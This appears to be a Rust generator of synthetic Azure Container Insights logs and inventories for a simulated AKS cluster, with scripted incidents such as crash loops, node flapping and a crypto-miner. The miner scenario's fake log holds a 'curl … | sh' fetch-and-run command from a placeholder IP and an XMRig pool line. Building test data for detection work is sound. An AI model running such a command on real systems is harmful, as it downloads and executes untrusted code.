//! Container Insights records for `crowsnest gen`, as Log Analytics data export sends them
//! (flat rows with `Type`, in `{"records":[…]}` lines): the application pods' logs
//! (ContainerLogV2), pod, node and container inventory snapshots, disk metrics and the odd
//! Warning event as background, and the scenarios that show in them.

use serde_json::{json, Map, Value};

use super::{time7, Rng, CLUSTER, NODES, SEC};

/// One running container, as the inventories and its logs describe it.
struct Workload {
    namespace: &'static str,
    app: &'static str,
    pod: String,
    uid: String,
    container_id: String,
    node: &'static str,
    repo: &'static str,
    image: String,
    tag: &'static str,
    restarts: i32,
}

pub(super) struct InsightsGen {
    apps: Vec<Workload>,
    system: Vec<Workload>,
    resource_id: String,
    tenant: String,
}

/// The pod the crypto-miner scenario execs into (its logs then show the miner).
pub(super) const MINER_POD: (&str, &str) = ("web", "frontend-7c5d9f6b8-m4q2x");
const MINER_POOL_LINE: &str = " * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo rx/0";

impl InsightsGen {
    pub(super) fn new(rng: &mut Rng) -> InsightsGen {
        let workload = |namespace, app, pod: String, repo, image: String, tag, rng: &mut Rng| Workload {
            namespace,
            app,
            pod,
            uid: rng.uuid(),
            container_id: rng.hex(64),
            node: NODES[rng.below(NODES.len() as u64) as usize],
            repo,
            image,
            tag,
            restarts: rng.below(2) as i32,
        };
        let mut apps = Vec::new();
        for ns in ["web", "payments", "orders"] {
            for app in ["frontend", "api", "worker"] {
                let pod = if (ns, app) == ("web", "frontend") {
                    MINER_POD.1.to_string()
                } else {
                    format!("{app}-{}-{}", rng.suffix(), rng.suffix())
                };
                apps.push(workload(ns, app, pod, "contosoacr.azurecr.io", format!("{ns}/{app}"), "1.8.2", rng));
            }
        }
        let system = [
            ("coredns", "oss/kubernetes/coredns", "v1.11.1"),
            ("kube-proxy", "oss/kubernetes/kube-proxy", "v1.30.4"),
            ("konnectivity-agent", "oss/kubernetes/apiserver-network-proxy/agent", "v0.30.3"),
            ("ama-logs", "azuremonitor/containerinsights/ciprod", "3.1.22"),
        ]
        .into_iter()
        .map(|(app, image, tag)| {
            let pod = format!("{app}-{}-{}", rng.suffix(), rng.suffix());
            workload("kube-system", app, pod, "mcr.microsoft.com", image.to_string(), tag, rng)
        })
        .collect();
        InsightsGen { apps, system, resource_id: CLUSTER.to_lowercase(), tenant: rng.uuid() }
    }

    /// The columns every record has.
    fn record(&self, table: &str, at: i64, computer: &str) -> Map<String, Value> {
        let mut m = Map::new();
        m.insert("TimeGenerated".into(), time7(at).into());
        m.insert("TenantId".into(), self.tenant.clone().into());
        m.insert("SourceSystem".into(), "Containers".into());
        m.insert("Computer".into(), computer.into());
        m.insert("_ResourceId".into(), self.resource_id.clone().into());
        m.insert("Type".into(), table.into());
        m
    }

    fn log(&self, w: &Workload, at: i64, stream: &str, message: Value) -> Value {
        let mut m = self.record("ContainerLogV2", at, w.node);
        m.insert("ContainerId".into(), w.container_id.clone().into());
        m.insert("ContainerName".into(), w.app.into());
        m.insert("PodName".into(), w.pod.clone().into());
        m.insert("PodNamespace".into(), w.namespace.into());
        m.insert("LogSource".into(), stream.into());
        m.insert("LogMessage".into(), message);
        Value::Object(m)
    }

    fn pod_inventory(&self, w: &Workload, at: i64, status: &str, reason: &str, last: &str, restarts: i32) -> Value {
        let mut m = self.record("KubePodInventory", at, w.node);
        for (k, v) in [
            ("ClusterId", json!(CLUSTER.to_lowercase())),
            ("ClusterName", json!("aks-prod-weu")),
            ("Namespace", json!(w.namespace)),
            ("Name", json!(w.pod)),
            ("PodUid", json!(w.uid)),
            ("PodLabel", json!(format!("[{{\"app\":\"{}\"}}]", w.app))),
            ("PodStatus", json!("Running")),
            ("ControllerKind", json!("ReplicaSet")),
            ("ContainerID", json!(w.container_id)),
            ("ContainerName", json!(format!("{}/{}", w.uid, w.app))),
            ("ContainerStatus", json!(status)),
            ("ContainerStatusReason", json!(reason)),
            ("ContainerLastStatus", json!(last)),
            ("ContainerRestartCount", json!(restarts)),
            ("PodRestartCount", json!(restarts)),
        ] {
            m.insert(k.into(), v);
        }
        Value::Object(m)
    }

    fn node_inventory(&self, node: &str, at: i64, status: &str, transition: i64) -> Value {
        let mut m = self.record("KubeNodeInventory", at, node);
        for (k, v) in [
            ("ClusterId", json!(CLUSTER.to_lowercase())),
            ("ClusterName", json!("aks-prod-weu")),
            ("Status", json!(status)),
            ("LastTransitionTimeReady", json!(time7(transition))),
            ("KubeletVersion", json!("v1.30.4")),
            ("KubeProxyVersion", json!("v1.30.4")),
            ("KubernetesProviderID", json!("azure")),
            ("Labels", json!("[{\"agentpool\":\"nodepool1\",\"kubernetes.io/os\":\"linux\"}]")),
        ] {
            m.insert(k.into(), v);
        }
        Value::Object(m)
    }

    fn container_inventory(&self, w: &Workload, at: i64, state: &str) -> Value {
        let mut m = self.record("ContainerInventory", at, w.node);
        for (k, v) in [
            ("ContainerID", json!(w.container_id)),
            ("Name", json!(format!("k8s_{}_{}_{}_{}_0", w.app, w.pod, w.namespace, &w.container_id[..12]))),
            ("ContainerHostname", json!(w.pod)),
            ("Repository", json!(w.repo)),
            ("Image", json!(w.image)),
            ("ImageTag", json!(w.tag)),
            ("ContainerState", json!(state)),
            ("ExitCode", json!(0)),
        ] {
            m.insert(k.into(), v);
        }
        Value::Object(m)
    }

    fn kube_event(&self, at: i64, namespace: &str, name: &str, reason: &str, message: &str) -> Value {
        let mut m = self.record("KubeEvents", at, NODES[1]);
        for (k, v) in [
            ("ClusterId", json!(CLUSTER.to_lowercase())),
            ("ClusterName", json!("aks-prod-weu")),
            ("ObjectKind", json!("Pod")),
            ("Namespace", json!(namespace)),
            ("Name", json!(name)),
            ("Reason", json!(reason)),
            ("Message", json!(message)),
            ("KubeEventType", json!("Warning")),
            ("SourceComponent", json!("kubelet")),
            ("FirstSeen", json!(time7(at))),
            ("LastSeen", json!(time7(at))),
            ("Count", json!(1)),
        ] {
            m.insert(k.into(), v);
        }
        Value::Object(m)
    }

    /// The inventory the agent reports when it starts: every container and node, so every
    /// image the cluster runs is known from the first minute.
    pub(super) fn initial_inventory(&self, at: i64) -> Vec<Value> {
        let containers = self.apps.iter().chain(&self.system).map(|w| self.container_inventory(w, at, "Running"));
        let nodes = NODES.iter().map(|n| self.node_inventory(n, at, "Ready", super::START_OF_NODES));
        containers.chain(nodes).collect()
    }

    /// Background Container Insights traffic beside one audit event: usually nothing, often a
    /// log line, sometimes an inventory snapshot, a metric or a Warning event.
    pub(super) fn background(&mut self, rng: &mut Rng, at: i64) -> Option<Value> {
        let roll = rng.below(1000);
        let app = &self.apps[rng.below(self.apps.len() as u64) as usize];
        let at = at + rng.below(SEC as u64) as i64;
        Some(match roll {
            0..=179 => {
                let msg = match app.app {
                    "frontend" => json!(format!(
                        "10.244.{}.{} - - \"GET /{} HTTP/1.1\" {} {} \"-\" \"Mozilla/5.0\"",
                        rng.below(4),
                        rng.below(250),
                        *rng.pick(&["", "static/app.js", "cart", "healthz", "static/logo.svg"]),
                        *rng.pick(&[200, 200, 200, 304, 404]),
                        rng.below(20_000)
                    )),
                    "api" => json!({
                        "level": *rng.pick(&["info", "info", "info", "warn"]),
                        "msg": "request completed",
                        "path": *rng.pick(&["/api/orders", "/api/cart", "/api/payments"]),
                        "status": *rng.pick(&[200, 201, 400, 500]),
                        "duration_ms": rng.below(400),
                    }),
                    _ => json!(*rng.pick(&[
                        "processed job in 231ms",
                        "health check: curl -sf http://localhost:8080/healthz || exit 1",
                        "decoded config with base64 -d from the secret volume",
                        "retrying connection to redis.orders.svc:6379 (attempt 2)",
                    ])),
                };
                let stream = if app.app == "api" || rng.chance(0.8) { "stdout" } else { "stderr" };
                self.log(app, at, stream, msg)
            }
            180..=199 => self.container_inventory(app, at, "Running"),
            200..=219 => self.pod_inventory(app, at, "running", "", "{}", app.restarts),
            220..=229 => {
                let w = &self.system[rng.below(self.system.len() as u64) as usize];
                self.pod_inventory(w, at, "running", "", "{}", w.restarts)
            }
            230..=234 => {
                let w = &self.system[rng.below(self.system.len() as u64) as usize];
                self.container_inventory(w, at, "Running")
            }
            235..=244 => {
                let node = *rng.pick(NODES);
                let status = if rng.chance(0.1) { "MemoryPressure,Ready" } else { "Ready" };
                self.node_inventory(node, at, status, super::START_OF_NODES)
            }
            245..=264 => {
                let node = *rng.pick(NODES);
                let mut m = self.record("InsightsMetrics", at, node);
                m.insert("Origin".into(), "container.azm.ms/telegraf".into());
                m.insert("Namespace".into(), "container.azm.ms/disk".into());
                m.insert("Name".into(), "used_percent".into());
                m.insert("Val".into(), json!(40.0 + rng.below(300) as f64 / 10.0));
                let tags = json!({"container.azm.ms/clusterId": CLUSTER.to_lowercase(), "container.azm.ms/clusterName": "aks-prod-weu", "device": "sda1", "hostName": node, "path": "/"});
                m.insert("Tags".into(), tags.to_string().into());
                Value::Object(m)
            }
            265..=269 => {
                self.kube_event(at, app.namespace, &app.pod, "Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503")
            }
            _ => return None,
        })
    }

    /// The Container Insights records of a scenario starting at `at`, each with its time.
    pub(super) fn scenario(&mut self, name: &str, at: i64) -> Vec<(i64, Value)> {
        let min = 60 * SEC;
        match name {
            // The exec itself is an audit event (see Gen::scenario); the miner shows in the log.
            "crypto-miner" => {
                let w = self.apps.iter().find(|w| (w.namespace, w.pod.as_str()) == MINER_POD).expect("the miner's pod");
                vec![
                    (at + 60 * SEC, self.log(w, at + 60 * SEC, "stderr", json!("+ curl -fsSL http://198.51.100.23/x.sh | sh"))),
                    (at + 75 * SEC, self.log(w, at + 75 * SEC, "stdout", json!(" * ABOUT        XMRig/6.21.0 gcc/9.4.0"))),
                    (at + 76 * SEC, self.log(w, at + 76 * SEC, "stdout", json!(MINER_POOL_LINE))),
                ]
            }
            "crashloop-burst" => {
                let last = r#"{"lastState":"terminated","reason":"OOMKilled","startedAt":"","finishedAt":""}"#;
                let crashing: Vec<&Workload> = self.apps.iter().filter(|w| w.namespace == "orders").collect();
                let mut out = Vec::new();
                for (i, w) in crashing.iter().enumerate() {
                    for k in 0..2 {
                        let t = at + (i as i64 * 60 + k * 90) * SEC;
                        out.push((t, self.pod_inventory(w, t, "waiting", "CrashLoopBackOff", last, w.restarts + 3 + k as i32)));
                    }
                    let t = at + (i as i64 * 60 + 30) * SEC;
                    let msg = format!("Back-off restarting failed container {} in pod {}_{}({})", w.app, w.pod, w.namespace, w.uid);
                    out.push((t, self.kube_event(t, w.namespace, &w.pod, "BackOff", &msg)));
                }
                out
            }
            "untrusted-image-pull" => {
                let pod = "tools-5b8c7d9f4-q7w2e";
                let image = "ghcr.io/xmr-tools/miner:latest";
                let failed = format!("Failed to pull image \"{image}\": rpc error: code = Unknown desc = failed to pull and unpack image \"{image}\": failed to resolve reference \"{image}\": unexpected status from HEAD request: 403 Forbidden");
                vec![
                    (at, self.kube_event(at, "web", pod, "Failed", &failed)),
                    (at + SEC, self.kube_event(at + SEC, "web", pod, "Failed", "Error: ErrImagePull")),
                    (at + 20 * SEC, self.kube_event(at + 20 * SEC, "web", pod, "BackOff", &format!("Back-off pulling image \"{image}\""))),
                ]
            }
            "new-image" => {
                let w = Workload {
                    namespace: "default",
                    app: "toolbox",
                    pod: "toolbox-6f7b9c5d8-z9k3m".into(),
                    uid: "0c9d8e7f-6a5b-4c3d-9e2f-1a0b9c8d7e6f".into(),
                    container_id: "9".repeat(64),
                    node: NODES[2],
                    repo: "docker.io",
                    image: "kalilinux/kali-rolling".into(),
                    tag: "latest",
                    restarts: 0,
                };
                vec![(at, self.container_inventory(&w, at, "Running")), (at + min, self.container_inventory(&w, at + min, "Running"))]
            }
            "node-flapping" => {
                let node = NODES[3];
                let states = ["", "Ready", "", "Ready", "MemoryPressure", "Ready"];
                states
                    .iter()
                    .enumerate()
                    .map(|(i, status)| {
                        let t = at + i as i64 * 2 * min;
                        (t, self.node_inventory(node, t, status, t - 40 * SEC))
                    })
                    .collect()
            }
            "system-pod-restarts" => {
                let w = Workload {
                    namespace: "kube-system",
                    app: "azure-policy",
                    pod: "azure-policy-6c8f9d7b5-k2m4p".into(),
                    uid: "5a4b3c2d-1e0f-4a9b-8c7d-6e5f4a3b2c1d".into(),
                    container_id: "7".repeat(64),
                    node: NODES[0],
                    repo: "mcr.microsoft.com",
                    image: "azure-policy/policy-kubernetes-addon-prod".into(),
                    tag: "1.7.1",
                    restarts: 1,
                };
                (0..4)
                    .map(|k| {
                        let t = at + k * 3 * min;
                        let (status, reason) = if k % 2 == 1 { ("waiting", "CrashLoopBackOff") } else { ("running", "") };
                        let last = r#"{"lastState":"terminated","reason":"Error","exitCode":137}"#;
                        (t, self.pod_inventory(&w, t, status, reason, last, w.restarts + k as i32))
                    })
                    .collect()
            }
            _ => Vec::new(),
        }
    }
}
